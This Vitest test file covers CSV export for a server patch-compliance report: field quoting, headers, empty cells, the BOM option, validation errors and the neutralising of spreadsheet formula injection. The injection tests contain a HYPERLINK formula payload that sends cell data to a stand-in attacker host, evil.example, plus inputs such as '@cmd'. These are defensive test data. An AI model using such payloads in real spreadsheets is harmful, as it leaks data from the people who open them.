import { describe, expect, it } from 'vitest';
import { ValidationError } from '../../src/errors.js';
import { type RenderCsvOptions, renderCsv } from '../../src/report/index.js';
import { FORMULAS, HOSTILE, sampleReport } from './sample.js';

/**
 * A strict RFC 4180 reader: quotes only around whole fields, CRLF record ends (the last one
 * included), no bare CR or LF outside quotes. Anything else throws, so the tests also prove the
 * output is well-formed.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let fieldStart = true;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else {
        quoted = false;
        if (!['"', ',', '\r', undefined].includes(text[i + 1]) || text[i + 1] === '"') {
          throw new Error(`text after a closing quote at ${i}`);
        }
      }
      continue;
    }
    if (ch === '"') {
      if (!fieldStart) throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      fieldStart = false;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
      fieldStart = true;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      fieldStart = true;
      i++;
    } else if (ch === '\r' || ch === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      cell += ch;
      fieldStart = false;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (cell !== '' || row.length > 0) throw new Error('last record is not CRLF-terminated');
  return rows;
}

function withServerNames(names: string[]) {
  const data = sampleReport();
  names.forEach((name, i) => {
    data.servers[i]!.name = name;
  });
  return data;
}

describe('renderCsv', () => {
  it('renderCsv — writes a header of JSON field names, then one CRLF-terminated row per server', () => {
    const data = sampleReport();
    const rows = parseCsv(renderCsv(data, { table: 'servers' }));
    expect(rows[0]).toEqual([
      'id',
      'name',
      'provider',
      'accountId',
      'region',
      'os',
      'status',
      'alert',
      'pending',
      'security',
      'lastScannedAt',
      'lastUpdatedAt',
      'reasons',
    ]);
    expect(rows).toHaveLength(data.servers.length + 1);
    expect(rows[3]).toEqual([
      'srv-web-03',
      'web-03.acme.example',
      'aws',
      'acct-prod',
      'eu-west-1',
      'Debian 12',
      'non-compliant',
      'true',
      '5',
      '3',
      '2025-06-30T06:00:00Z',
      '2025-06-21T02:00:00Z',
      'openssl security update pending for 21 days (limit 14); Reboot required since 2025-06-10',
    ]);
    // Every row has as many cells as the header.
    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([13]));
  });

  it('renderCsv — quotes fields with commas, quotes, CR or LF and doubles the quotes', () => {
    const names = ['a,b', 'say "hi"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\nboth', 'plain'];
    const csv = renderCsv(withServerNames(names), { table: 'servers' });
    expect(csv).toContain('\r\nsrv-web-01,"a,b",');
    expect(csv).toContain('\r\nsrv-web-02,"say ""hi""",');
    expect(csv).toContain('\r\nsrv-web-03,"line\nbreak",');
    expect(csv).toContain('\r\nsrv-api-02,plain,');
    const rows = parseCsv(csv);
    expect(rows.slice(1, 7).map((r) => r[1])).toEqual(names);
  });

  it('renderCsv — neutralises formula injection with a leading quote', () => {
    const csv = renderCsv(withServerNames(FORMULAS), { table: 'servers' });
    const rows = parseCsv(csv);
    expect(rows.slice(1, 1 + FORMULAS.length).map((r) => r[1])).toEqual(FORMULAS.map((f) => `'${f}`));
    // Quoting still applies after the prefix: the quote goes inside the field.
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(`"'\rcmd"`);
  });

  it('renderCsv — neutralises formulas in every column, including lists and the patches table', () => {
    const data = sampleReport();
    data.servers[0]!.reasons = ['=1+1', 'ok'];
    data.patches[0]!.name = '@cmd';
    data.patches[0]!.advisories = ['-x'];
    const servers = parseCsv(renderCsv(data, { table: 'servers' }));
    expect(servers[1]![12]).toBe("'=1+1; ok");
    const patches = parseCsv(renderCsv(data, { table: 'patches' }));
    expect(patches[1]![2]).toBe("'@cmd");
    expect(patches[1]![9]).toBe("'-x");
  });

  it('renderCsv — leaves ordinary values alone, formula characters after the first included', () => {
    const names = ['a=b', 'web-01', 'x+y@z', ' =leading space'];
    const rows = parseCsv(renderCsv(withServerNames(names), { table: 'servers' }));
    expect(rows.slice(1, 5).map((r) => r[1])).toEqual(names);
  });

  it('renderCsv — writes the patches table with empty cells for null and absent values', () => {
    const data = sampleReport();
    const rows = parseCsv(renderCsv(data, { table: 'patches' }));
    expect(rows[0]).toEqual([
      'serverId',
      'serverName',
      'name',
      'installedVersion',
      'candidateVersion',
      'category',
      'severity',
      'firstSeenAt',
      'ageDays',
      'advisories',
    ]);
    expect(rows).toHaveLength(data.patches.length + 1);
    expect(rows[1]).toEqual([
      'srv-web-03',
      'web-03.acme.example',
      'openssl',
      '3.0.15-1~deb12u1',
      '3.0.16-1~deb12u1',
      'security',
      'high',
      '2025-06-09T06:00:00Z',
      '',
      'DSA-5920-1; CVE-2025-1234',
    ]);
    const notInstalled = rows.find((r) => r[2] === 'kernel-modules-core')!;
    expect(notInstalled[3]).toBe('');
    expect(notInstalled[7]).toBe('');
    // HTML-hostile text is not HTML's problem in CSV: kept verbatim.
    expect(rows.find((r) => r[0] === 'srv-build-01')![1]).toBe(HOSTILE.script);
  });

  it('renderCsv — writes only the header for an empty table', () => {
    const data = sampleReport();
    data.patches = [];
    expect(renderCsv(data, { table: 'patches' })).toBe(
      'serverId,serverName,name,installedVersion,candidateVersion,category,severity,firstSeenAt,ageDays,advisories\r\n',
    );
  });

  it('renderCsv — starts with a UTF-8 BOM only when asked', () => {
    const data = sampleReport();
    expect(renderCsv(data, { table: 'servers' }).startsWith('id,')).toBe(true);
    expect(renderCsv(data, { table: 'servers', bom: true }).startsWith('\uFEFFid,')).toBe(true);
  });

  it('renderCsv — rejects an unknown table or invalid data with a ValidationError', () => {
    const data = sampleReport();
    expect(() => renderCsv(data, { table: 'users' } as unknown as RenderCsvOptions)).toThrow(ValidationError);
    data.totals.compliant += 1;
    expect(() => renderCsv(data, { table: 'servers' })).toThrow(ValidationError);
  });
});
